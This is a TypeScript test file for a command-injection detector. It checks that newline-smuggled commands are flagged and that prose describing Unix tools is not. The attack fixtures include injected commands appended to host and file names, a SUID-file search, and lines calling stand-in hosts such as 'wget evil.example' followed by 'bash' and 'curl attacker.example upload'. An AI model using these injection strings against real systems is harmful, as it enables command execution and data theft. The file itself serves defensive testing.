import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeValue } from '../../../src/threat/decode/normalize.js';
import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';

const score = (s: string) => detectCmdi(decodeValue(s));

describe('newline-separated command lines against prose about commands', () => {
  // a line whose command word takes a bare word, or nothing, is still a command line
  const attacks = ['wget evil.example\nbash x', 'uname\nwhoami', 'curl evil.example\nwhoami', '\nwget x\nid', 'ls\nnetstat', 'whoami\ncurl attacker.example upload'];
  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => { const v = score(a); assert.ok(v.confidence >= 0.8, `${a}: ${JSON.stringify(v)}`); });
  // a line that opens with a command's name and then reads as a sentence describes the command
  const benign = [
    'Tools for downloads\nwget is a small utility that fetches files over HTTP and FTP.\ncurl transfers data with URL syntax as well.',
    'Archive helpers\n\ntar writes archives in several formats\ngzip compresses them with the deflate algorithm',
    'Text utilities\nsed edits streams of text line by line\nawk scans patterns and processes them',
    'Network tools\nssh opens secure shells on remote hosts\nscp copies files between hosts',
    'Programs included:\narch base32 chcon chgrp chmod\ndd df dircolors env\nnohup nproc od printenv',
  ];
  for (const b of benign) it(`does not flag ${JSON.stringify(b).slice(0, 70)}`, () => { const v = score(b); assert.ok(v.confidence < 0.8, `${b}: ${JSON.stringify(v)}`); });
});

describe('a line break puts a command in command position at least as firmly as the start of the value', () => {
  // appended to a host or file name: the line after the break is read as the value's start is
  const attacks = ['127.0.0.1\nls -la', 'x\nsleep 5', 'x\nping -c 3 127.0.0.1', 'report.pdf\r\ncat -n index.php', 'a.example\nfind / -perm -4000'];
  for (const a of attacks) {
    it(`flags ${JSON.stringify(a)} as the same line alone is flagged`, () => {
      const line = a.slice(a.indexOf('\n') + 1);
      assert.ok(score(line).confidence >= 0.8, `the line alone: ${JSON.stringify(score(line))}`);
      const v = score(a);
      assert.ok(v.confidence >= 0.8, `${a}: ${JSON.stringify(v)}`);
    });
  }
  const benign = ['Shopping list:\ncat food\ntest kit', 'Agenda\ntime 5pm in the hall', 'Notes:\nsleep 8 hours a night', 'Dear team,\nfind attached the report for May.'];
  for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => { const v = score(b); assert.ok(v.confidence < 0.8, `${b}: ${JSON.stringify(v)}`); });
});
